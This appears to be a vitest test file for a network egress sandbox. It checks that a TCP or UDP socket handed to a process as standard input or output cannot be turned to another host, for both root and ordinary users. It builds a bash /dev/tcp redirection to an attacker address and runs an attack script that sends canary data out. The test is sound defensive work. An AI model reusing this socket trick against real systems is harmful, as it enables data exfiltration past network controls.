import { writeFileSync } from 'node:fs';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { ordinaryUser, privilegedAttacker } from './attackers.ts';
import { PYTHON } from './campaign.ts';
import { ATTACKER, RESOLVER } from './plan.ts';
import { ESCAPE_POLICY } from './policy.ts';
import { run } from './process.ts';
import { WEIR } from './runtime.ts';
import { createStage, type Stage, TOKEN } from './stage.ts';

const SCRIPT = fileURLToPath(new URL('./attacks/scripts/reconnect.py', import.meta.url));
const SETTLE_MS = 300;
/** Where the socket is turned to; the caller had connected it to the attacker's other port. */
const TARGET = '203.0.113.99';

let stage: Stage;
beforeAll(async () => {
  stage = await createStage();
});
afterAll(() => stage.destroy());

/** What of `text` arrived when the command has a socket of the caller's as a standard descriptor. */
async function leaked(user: typeof ordinaryUser, weir: string[], descriptor: number, kind: string, text: string) {
  const attribution = { name: text, canary: text, addresses: [TARGET], groups: [], port: 1234 };
  await stage.sink.watch([attribution]);
  const command = [...weir, ...PYTHON, SCRIPT, String(descriptor), TARGET, '1234', text];
  const shell = `exec "$@" ${descriptor}<>/dev/${kind}/${ATTACKER.v4}/80`;
  const argv = user(stage.topology, ['bash', '-c', shell, 'caller', ...command]);
  const outcome = await run(argv, { cwd: stage.project, env: { ...process.env, HOME: stage.topology.directory } });
  await new Promise((resolve) => setTimeout(resolve, SETTLE_MS));
  const { packets } = await stage.sink.report();
  return { packets: packets.filter(({ attack }) => attack === text).length, outcome };
}

const cases = (
  [
    ['root', privilegedAttacker],
    ['ordinary user', ordinaryUser],
  ] as const
).flatMap(([who, user]) =>
  ['tcp', 'udp'].flatMap((kind) => [0, 1].map((descriptor) => [who, kind, descriptor, user] as const)),
);

test.each(cases)(
  '%s: a %s socket as descriptor %i cannot be turned to another host',
  async (_who, kind, descriptor, user) => {
    const policy = path.join(stage.topology.directory, 'policy.yaml');
    writeFileSync(policy, ESCAPE_POLICY);
    const options = ['--policy', policy, '--resolver', RESOLVER.v4, '--upstream-ca', stage.sink.pki.ca];
    const control = await leaked(user, [], descriptor, kind, `${TOKEN}900`);
    expect(control.packets, control.outcome.stderr).toBeGreaterThan(0);
    const guarded = await leaked(user, [WEIR, 'run', ...options, '--'], descriptor, kind, `${TOKEN}901`);
    expect(guarded.packets).toBe(0);
  },
);
